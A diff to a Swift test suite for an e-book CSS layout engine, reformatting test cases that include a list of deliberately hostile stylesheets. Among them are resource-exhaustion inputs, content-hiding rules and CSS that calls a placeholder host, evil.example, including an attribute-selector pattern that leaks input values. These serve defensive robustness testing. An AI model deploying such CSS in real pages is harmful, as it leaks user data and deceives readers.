@@ -21,12 +21,15 @@ struct BookLayoutTests {
     }
 
     @Test(arguments: [
-        (".a { text-align: center }", "center"), (".a { text-align: right }", "end"), (".a { text-align: justify }", ""),
-        ("body { text-align: center }", "center"), (".a { margin-left: 2em }", "in2"), (".a { margin: 0 1em 0 32px }", "in2 out1"),
+        (".a { text-align: center }", "center"), (".a { text-align: right }", "end"),
+        (".a { text-align: justify }", ""),
+        ("body { text-align: center }", "center"), (".a { margin-left: 2em }", "in2"),
+        (".a { margin: 0 1em 0 32px }", "in2 out1"),
         (".a { padding-left: 10% }", "in3"), (".a { margin-left: 2em; text-indent: -2em }", "in2 first-2"),
         (".a { text-indent: -4em }", ""), (".a { text-indent: 1.5em }", ""), (".a { text-indent: 0 }", ""),
         (".a { text-indent: 0; margin-top: 1em }", "gap1 first0"), (".a { text-indent: 5em }", "first5"),
-        (".a { margin-top: 300px }", "gap8"), (".a { font-size: 80% }", "small"), (".a { font-size: x-large }", "large"),
+        (".a { margin-top: 300px }", "gap8"), (".a { font-size: 80% }", "small"),
+        (".a { font-size: x-large }", "large"),
         (".a { font-size: 2em }", "huge"), (".a::first-letter { float: left }", "cap"),
         (".a:first-letter { font-size: 300% }", "cap"), (".a::first-letter { color: red }", ""),
         ("body { margin: 3em; font-size: 2em }", ""), ("p { margin: 0; text-indent: 1em }", ""),
@@ -69,7 +72,8 @@ struct BookLayoutTests {
         let css = """
             .poem span { display: block; padding-left: 1em; text-indent: -1em } .poem .i2 { padding-left: 3em }
             """
-        let verse = #"<div class="poem" epub:type="z3998:verse"><p><span>Alpha,</span><span class="i2">Beta,</span></p></div>"#
+        let verse =
+            #"<div class="poem" epub:type="z3998:verse"><p><span>Alpha,</span><span class="i2">Beta,</span></p></div>"#
         let found = try layouts(css, verse)
         #expect(found["Alpha,"] == nil)
         #expect(found["Beta,"]?.startMargin == 2)
@@ -117,21 +121,29 @@ struct BookLayoutTests {
     }
 
     private static let hostile: [String] = {
-        let lengths = ["1e308em", "-1e308em", "99999999999999999999em", "NaNem", "infem", "1e-308em", "100000vh", "-5000%", "calc(1em * 1e9)"]
+        let lengths = [
+            "1e308em", "-1e308em", "99999999999999999999em", "NaNem", "infem", "1e-308em", "100000vh", "-5000%",
+            "calc(1em * 1e9)",
+        ]
         let properties = ["margin", "margin-left", "padding", "text-indent", "font-size"]
         return lengths.flatMap { length in properties.map { "* { \($0): \(length) }" } } + [
             "body { position: fixed; inset: 0; z-index: 2147483647 }", ".a { position: absolute; left: -9999px }",
             "* { color: white; background: white }", "* { font-size: 0 }", "* { clip-path: inset(50%) }",
             "* { opacity: 0 }", "* { transform: scale(1000) }", "* { background: url(http://evil.example/x) }",
-            "@import url(http://evil.example/a.css);", "@import 'one.xhtml';", "p::before { content: 'read me instead' }",
+            "@import url(http://evil.example/a.css);", "@import 'one.xhtml';",
+            "p::before { content: 'read me instead' }",
             "p { content: url(//evil.example) }", "@font-face { font-family: a; src: url(//evil.example) }",
             "input[value^=a] { background: url(//evil.example?a) }", String(repeating: "a{", count: 20_000),
-            String(repeating: "p ", count: 50_000) + "{ margin: 1em }", String(repeating: "p,", count: 50_000) + "p { margin: 1em }",
-            String(repeating: "p { margin: 1em } ", count: 20_000), "p { " + String(repeating: "margin: 1em;", count: 100_000) + "}",
+            String(repeating: "p ", count: 50_000) + "{ margin: 1em }",
+            String(repeating: "p,", count: 50_000) + "p { margin: 1em }",
+            String(repeating: "p { margin: 1em } ", count: 20_000),
+            "p { " + String(repeating: "margin: 1em;", count: 100_000) + "}",
             "p:not(:not(:not(*))) { margin: 1em }", "p:has(*:has(*)) { text-align: center }", "p { margin: ",
-            "p { margin: 1em", "/* p { margin: 1em }", "\"p { margin: 1em }", "p { text-align: \\63 enter }", "}}}} p { margin: 1em }",
+            "p { margin: 1em", "/* p { margin: 1em }", "\"p { margin: 1em }", "p { text-align: \\63 enter }",
+            "}}}} p { margin: 1em }",
             "@media screen and (min-width: 1px) { p { margin: 900em } }", "p { --a: 1em; margin: var(--a) }",
-            "p { width: 0.0001% } img { width: -5% }", "* { writing-mode: vertical-rl }", "* { animation: a 1s infinite }",
+            "p { width: 0.0001% } img { width: -5% }", "* { writing-mode: vertical-rl }",
+            "* { animation: a 1s infinite }",
         ]
     }()
 }
